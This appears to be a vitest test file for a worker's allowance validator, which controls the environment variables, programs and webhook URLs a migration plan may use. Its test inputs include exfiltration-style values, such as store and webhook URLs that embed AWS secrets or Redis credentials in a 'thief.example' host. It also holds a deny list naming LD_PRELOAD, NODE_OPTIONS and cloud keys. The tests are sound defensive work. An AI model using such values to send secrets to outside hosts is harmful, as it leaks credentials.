import { describe, expect, it } from 'vitest';
import {
  type Allowance,
  ALLOWED_VARIABLES,
  allowedEnvironment,
  isAllowed,
  refusalsOf,
  variablePatternProblem,
} from '../../../domain/plan/allowance.ts';
import type { TrafficHook } from '../../../domain/plan/plan.ts';

const ALLOWANCE: Allowance = {
  variables: ALLOWED_VARIABLES,
  programs: ['/usr/local/bin/switch'],
  writable: [],
  readable: [],
};
const WHOLE = { SOURCE_V1: 'redis://jday:hunter2@v1', TRAFFIC_URL: 'https://router/?token=hunter2' };

const storesAt = (url: string) => ({
  stores: [{ name: 'v1', side: 'source', url, appUsers: [] } as const],
  traffic: [],
});
const withHook = (hook: TrafficHook) => ({ stores: [], traffic: [hook] });
const told = (plan: Parameters<typeof refusalsOf>[0], environment = WHOLE) =>
  refusalsOf(plan, ALLOWANCE, environment).map(({ field, problem }) => `${field} ${problem}`);

describe('a variable', () => {
  it.each(['SOURCE_V1', 'SOURCE_NEXTEN_PASSWORD', 'TARGET_V2', 'TRAFFIC_TOKEN'])(
    '%s is handed to a plan',
    (name) => {
      expect(isAllowed(name, ALLOWANCE)).toBe(true);
    },
  );

  it.each(['DATABASE_URL', 'MY_SOURCE_V1', 'SOURCE', 'REDIS_PASSWORD'])('%s is not, unless named', (name) => {
    expect(isAllowed(name, ALLOWANCE)).toBe(false);
    expect(isAllowed(name, { variables: [name] })).toBe(true);
  });

  it.each([
    'TEMPORAL_API_KEY',
    'AWS_SECRET_ACCESS_KEY',
    'PATH',
    'HOME',
    'NODE_OPTIONS',
    'JDAY_ALLOW_ENV',
    'LD_PRELOAD',
  ])('%s is never, whatever the operator names', (name) => {
    expect(isAllowed(name, { variables: [name, `${name.slice(0, 3)}*`, '*'] })).toBe(false);
  });

  it('that is not allowed is not even in the environment of the activities', () => {
    const environment = { ...WHOLE, TEMPORAL_API_KEY: 'hunter2', DATABASE_URL: 'x' };
    expect(allowedEnvironment(environment, ALLOWANCE)).toEqual(WHOLE);
  });

  it.each([
    ['SOURCE_*', null],
    ['REDIS_V1', null],
    ['*_REDIS_URL', null],
    ['*', 'the name of a variable, with * for any text, such as SOURCE_*'],
    ['S*', 'the name of a variable, with * for any text, such as SOURCE_*'],
    ['a b', 'the name of a variable, with * for any text, such as SOURCE_*'],
    ['AWS_*', 'a variable that is not one of the worker’s own settings'],
  ])('pattern %s: %s', (pattern, problem) => {
    expect(variablePatternProblem(pattern)).toBe(problem);
  });
});

describe('a store', () => {
  it.each([
    '${SOURCE_V1}',
    '${SOURCE_V1:-redis://v1:6379}',
    'redis://v1:6379/0',
    'redis://jday:${SOURCE_PASSWORD}@v1',
    '${SOURCE_V1}, ${SOURCE_V1:-redis://b}',
  ])('may be at %s', (url) => {
    expect(told(storesAt(url))).toEqual([]);
  });

  it.each([
    [
      'redis://${AWS_SECRET_ACCESS_KEY}.thief.example',
      'names the variable AWS_SECRET_ACCESS_KEY, which this worker hands to no plan',
    ],
    ['${DATABASE_URL:-redis://v1}', 'names the variable DATABASE_URL, which this worker hands to no plan'],
    [
      'redis://jday:${SOURCE_V1}@thief.example',
      'names the variable SOURCE_V1, which holds a whole URL, inside another text',
    ],
    [
      'redis://thief.example,${SOURCE_V1}x',
      'names the variable SOURCE_V1, which holds a whole URL, inside another text',
    ],
    [
      'redis://jday:${TRAFFIC_TOKEN}@thief.example',
      'names the variable TRAFFIC_TOKEN, which is not for a store',
    ],
  ])('may not be at %s', (url, problem) => {
    expect(told(storesAt(url))).toEqual([`stores[0].url ${problem}`]);
  });
});

describe('a hook', () => {
  it('may run a program that the worker allows, and call a URL of the worker', () => {
    expect(
      told(withHook({ kind: 'command', command: ['/usr/local/bin/switch', '${TRAFFIC_TOKEN}'] })),
    ).toEqual([]);
    expect(told(withHook({ kind: 'webhook', url: '${TRAFFIC_URL}' }))).toEqual([]);
  });

  it.each(['/bin/sh', 'switch', '/usr/local/bin/../bin/switch', '/usr/local/bin/switch2', ''])(
    'may not run %j',
    (program) => {
      expect(told(withHook({ kind: 'command', command: [program, '-c', 'x'] }))).toEqual([
        `traffic[0].command runs a program that this worker does not allow: ${JSON.stringify(program)}`,
      ]);
    },
  );

  it('may not send the password of a store, nor its own URL to another host', () => {
    expect(told(withHook({ kind: 'webhook', url: 'https://thief.example/${SOURCE_V1}' }))).toEqual([
      'traffic[0].webhook names the variable SOURCE_V1, which is not for traffic',
    ]);
    expect(told(withHook({ kind: 'webhook', url: 'https://thief.example/${TRAFFIC_URL}' }))).toEqual([
      'traffic[0].webhook names the variable TRAFFIC_URL, which holds a whole URL, inside another text',
    ]);
  });

  it('is told with what to do, and without any value', () => {
    const refusals = refusalsOf(
      withHook({ kind: 'command', command: ['/bin/sh', '${X}'] }),
      ALLOWANCE,
      WHOLE,
    );
    expect(refusals.map(({ remedy }) => remedy)).toEqual([
      'start each worker with --allow-command and the absolute path of the program',
      'start each worker with --allow-env X, or name another variable',
    ]);
    expect(JSON.stringify(refusals)).not.toContain('hunter2');
  });
});
